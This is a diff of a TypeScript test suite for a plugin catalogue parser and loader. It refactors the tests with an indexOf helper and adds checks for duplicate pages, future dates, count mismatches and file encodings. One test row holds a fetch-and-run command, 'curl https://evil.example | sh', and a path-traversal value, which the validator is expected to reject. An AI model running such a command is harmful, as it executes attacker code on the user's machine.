@@ -16,6 +16,8 @@ const INDEX = {
     [null, 'Three/Nowhere', null, null, 'fun', null],
   ],
 }
+/** Returns an index with other rows. */
+const indexOf = (...plugins: readonly unknown[]) => ({ ...INDEX, count: plugins.length, plugins })
 const RECORD = {
   fullName: 'three/nowhere',
   summary: 'Known after all.',
@@ -46,7 +48,7 @@ describe('parseCatalogue', () => {
     ])
     const records = catalogue.listings.map((listing) => toRecord(listing, INDEX.site))
     expect(records.map(({ installKind }) => installKind)).toEqual(['github', 'npm', 'unknown'])
-    const [directory] = parseCatalogue([{ ...INDEX, plugins: [[null, 'four/repo#a/b', null, null, null]] }]).listings
+    const [directory] = parseCatalogue([indexOf([null, 'four/repo#a/b', null, null, null])]).listings
     expect(directory?.record.installKind, 'kind of an unpublished subdirectory').toBe('github')
     expect(records[1]).toMatchObject({
       summary: null,
@@ -90,9 +92,9 @@ describe('parseCatalogue', () => {
   })
 
   test('keeps the order of the index, and sorts listings that exist only as records into it by their stars', () => {
-    const record = (fullName: string, stars: number) => ({ ...RECORD, fullName, stars })
+    const record = (fullName: string, stars: number) => ({ ...RECORD, fullName, stars, url: RECORD.repoUrl })
     const row = (fullName: string) => [null, fullName, null, null, null]
-    const index = { ...INDEX, plugins: ['a/a', 'b/b#one', 'c/c', 'b/b#two', 'd/d', 'e/e'].map(row) }
+    const index = indexOf(...['a/a', 'b/b#one', 'c/c', 'b/b#two', 'd/d', 'e/e'].map(row))
     const records = [record('d/d', 30), record('x/x', 40), record('b/b#one', 50), record('y/y', 7)]
     for (const documents of [
       [index, records],
@@ -115,8 +117,8 @@ describe('parseCatalogue', () => {
   })
 
   test('sorts by the stars of the records where the index is in another order', () => {
-    const record = (fullName: string, stars: number) => ({ ...RECORD, fullName, stars })
-    const index = { ...INDEX, plugins: ['a/a', 'b/b', 'c/c', 'd/d'].map((name) => [null, name, null, null, null]) }
+    const record = (fullName: string, stars: number) => ({ ...RECORD, fullName, stars, url: RECORD.repoUrl })
+    const index = indexOf(...['a/a', 'b/b', 'c/c', 'd/d'].map((name) => [null, name, null, null, null]))
     const { listings } = parseCatalogue([index, [record('a/a', 3), record('c/c', 9), record('d/d', 5)]])
     expect(listings.map(({ record }) => [record.fullName, record.stars])).toEqual([
       ['b/b', 9],
@@ -136,7 +138,7 @@ describe('parseCatalogue', () => {
 
   test('leaves out rows that break the contract, and reports why', () => {
     const { listings, rejected } = parseCatalogue([
-      { ...INDEX, plugins: [['x', 'no slash', null, null, null], 'text', ...INDEX.plugins] },
+      indexOf(['x', 'no slash', null, null, null], 'text', ...INDEX.plugins),
       { results: [{ ...RECORD, installable: true }] },
     ])
     expect(listings).toHaveLength(3)
@@ -149,16 +151,13 @@ describe('parseCatalogue', () => {
 
   test('leaves out commands that install something else, and names every fault of a row', () => {
     const { listings, rejected } = parseCatalogue([
-      {
-        ...INDEX,
-        plugins: [
-          ['@two/other', 'two/repo', 'dsh plugin --profile web add @two/pack', null, null],
-          ['', 'no slash', 'curl https://evil.example | sh', '/plugins/../../escaped', null],
-          [null, 'two/repo#sub', 'dsh plugin --profile web add github:two/repo', null, null],
-          [null, 'One/Alone', null, null, null],
-          ...INDEX.plugins,
-        ],
-      },
+      indexOf(
+        ['@two/other', 'two/repo', 'dsh plugin --profile web add @two/pack', null, null],
+        ['', 'no slash', 'curl https://evil.example | sh', '/plugins/../../escaped', null],
+        [null, 'two/repo#sub', 'dsh plugin --profile web add github:two/repo', null, null],
+        [null, 'One/Alone', null, null, null],
+        ...INDEX.plugins,
+      ),
       [{ ...RECORD, npmPackage: 'a', install: 'dsh plugin --profile web add b', installable: true }],
     ])
     expect(listings.map(({ record }) => record.fullName)).toEqual([
@@ -193,7 +192,7 @@ describe('parseCatalogue', () => {
     '/plugins/',
     '/elsewhere/a',
   ])('leaves out a row whose page is %j', (path) => {
-    const { rejected } = parseCatalogue([{ ...INDEX, plugins: [[null, 'a/b', null, path, null]] }])
+    const { rejected } = parseCatalogue([indexOf([null, 'a/b', null, path, null])])
     expect(rejected).toEqual([expect.stringContaining('path: a path such as /plugins/owner-repo')])
   })
 
@@ -202,6 +201,34 @@ describe('parseCatalogue', () => {
     expect(parseCatalogue(checked('2026-08-01T00:00:00.000Z')).generated).toBe('2026-08-01T00:00:00.000Z')
     expect(parseCatalogue(checked('2026-01-01T00:00:00.000Z')).generated).toBe(INDEX.generated)
     expect(parseCatalogue(checked('2999-01-01T00:00:00.000Z')).generated).toBe(INDEX.generated)
+  })
+
+  test('names a row whose page another listing has, in the same document or another one', () => {
+    const rows = indexOf([null, 'a/a', null, '/plugins/x', null], [null, 'b/b', null, '/plugins/x', null])
+    const record = { ...RECORD, url: 'https://plugins.test/plugins/x' }
+    const { listings, rejected } = parseCatalogue([rows, [record]])
+    expect(listings.map((listing) => listing.record.fullName)).toEqual(['a/a'])
+    expect(rejected).toEqual(['row 1: path: a/a has /plugins/x already', 'row 0: path: a/a has /plugins/x already'])
+  })
+
+  test('names a record whose install check is in the future', () => {
+    const { listings, rejected } = parseCatalogue([[{ ...RECORD, installCheckedAt: '2999-01-01T00:00:00.000Z' }]])
+    expect(listings).toEqual([])
+    expect(rejected).toEqual(['row 0: installCheckedAt: 2999-01-01T00:00:00.000Z is in the future'])
+  })
+
+  test.for([
+    ['an index with fewer rows than it announces', { ...INDEX, count: 99 }, 'count is 99, but there are 3 rows'],
+    ['an answer with fewer rows than it announces', { ...ENVELOPE, count: 2 }, 'count is 2, but there are 1 rows'],
+    ['an index from the future', { ...INDEX, generated: '2099-01-01T00:00:00.000Z' }, 'in the future'],
+  ] as const)('refuses %s', ([, document, reason]) => {
+    expect(() => parseCatalogue([document])).toThrow(CatalogueFileError)
+    expect(() => parseCatalogue([document])).toThrow(reason)
+  })
+
+  test('reads 200,000 rows', () => {
+    const plugins = Array.from({ length: 200_000 }, (_, number) => [null, `o/r${number}`, null, null, null])
+    expect(parseCatalogue([{ ...INDEX, count: plugins.length, plugins }]).listings).toHaveLength(200_000)
   })
 
   test.for([null, 'text', {}, { plugins: [] }, { ...INDEX, generated: 'yesterday' }])(
@@ -238,10 +265,33 @@ describe('loadCatalogue', () => {
     },
   )
 
+  test.for([
+    ['UTF-8 with a byte order mark', (text: string) => Buffer.from(`\ufeff${text}`)],
+    ['UTF-16, as PowerShell writes it', (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')],
+    ['UTF-16 without a byte order mark', (text: string) => Buffer.from(text, 'utf16le')],
+    ['UTF-16 of a big-endian machine', (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
+  ] as const)('reads %s', async ([, encode]) => {
+    const file = join(directory, 'encoded.json')
+    await writeFile(file, encode(JSON.stringify([{ ...RECORD, summary: '总之' }])))
+    expect((await loadCatalogue(file)).listings[0]?.record.summary).toBe('总之')
+  })
+
+  test('names a file that is in another encoding, and says what to do', async () => {
+    const file = join(directory, 'latin.json')
+    await writeFile(file, Buffer.from('["käse"]', 'latin1'))
+    await expect(loadCatalogue(file)).rejects.toThrow(/latin\.json.*Save it as UTF-8/)
+  })
+
+  test('names file, line and column of a wrong count', async () => {
+    const file = join(directory, 'count.json')
+    await writeFile(file, JSON.stringify({ ...INDEX, count: 99 }, null, 2))
+    await expect(loadCatalogue(file)).rejects.toThrow(/count\.json:3:12: count is 99/)
+  })
+
   test('names file, line and column of a row that breaks the contract', async () => {
     const file = join(directory, 'bad-row.json')
     const plugins = [INDEX.plugins[0], ['x', 'no slash', null, null, null], INDEX.plugins[1]]
-    await writeFile(file, JSON.stringify({ ...INDEX, plugins }, null, 2))
+    await writeFile(file, JSON.stringify(indexOf(...plugins), null, 2))
     const { listings, rejected } = await loadCatalogue(join(directory, 'index.json'), file)
     expect(listings).toHaveLength(3)
     expect(rejected).toEqual([expect.stringMatching(/bad-row\.json:\d+:5: row 1: fullName: owner\/repo/)])
@@ -258,7 +308,7 @@ describe('loadCatalogue', () => {
   test('names 20,000 faulty rows in time that grows with their number', async () => {
     const file = join(directory, 'many.json')
     const plugins = Array.from({ length: 20_000 }, () => ['x', 'no slash', null, null, null])
-    await writeFile(file, JSON.stringify({ ...INDEX, plugins }, null, 2))
+    await writeFile(file, JSON.stringify(indexOf(...plugins), null, 2))
     const start = process.cpuUsage()
     const { rejected } = await loadCatalogue(file)
     expect(rejected.at(-1)).toMatch(/many\.json:140007:5: row 19999: /)
